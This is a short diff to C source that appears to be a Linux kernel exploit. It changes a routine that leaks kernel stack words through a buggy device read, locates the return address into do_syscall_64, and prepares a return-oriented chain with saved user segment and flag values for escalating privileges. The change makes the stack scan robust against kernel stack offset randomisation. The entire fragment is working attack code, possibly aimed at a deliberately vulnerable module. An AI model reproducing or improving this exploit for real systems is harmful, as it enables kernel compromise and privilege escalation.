@@ -150,17 +150,17 @@ static void after_return(void)
 static void by_return(int fd, const struct addresses *a)
 {
 	static char stack[65536] __attribute__((aligned(16)));
-	uint64_t words[BUG_WORDS], chain[32];
+	uint64_t word, chain[32];
 	uint64_t user_cs, user_ss, flags;
 	int64_t at = -1;
 	int n = 0;
 
-	/* From the array upwards, the first address in do_syscall_64 is where its callee returns to. */
-	for (int64_t from = 0; from < 4 * BUG_WORDS && at < 0; from += BUG_WORDS) {
-		access_words(fd, BUG_STACK_READ, from, words, BUG_WORDS);
-		for (int i = 0; i < BUG_WORDS && at < 0; i++)
-			if (words[i] >= a->do_syscall_64 && words[i] < a->do_syscall_64_end)
-				at = from + i;
+	/* From the array upwards, the first address in do_syscall_64 is where its callee returns to.
+	 * One word at a time: the stack's end may be near (randomize_kstack_offset). */
+	for (int64_t i = 0; i < 4 * BUG_WORDS && at < 0; i++) {
+		access_words(fd, BUG_STACK_READ, i, &word, 1);
+		if (word >= a->do_syscall_64 && word < a->do_syscall_64_end)
+			at = i;
 	}
 	if (at < 0)
 		fail("no return address into do_syscall_64 on the stack");
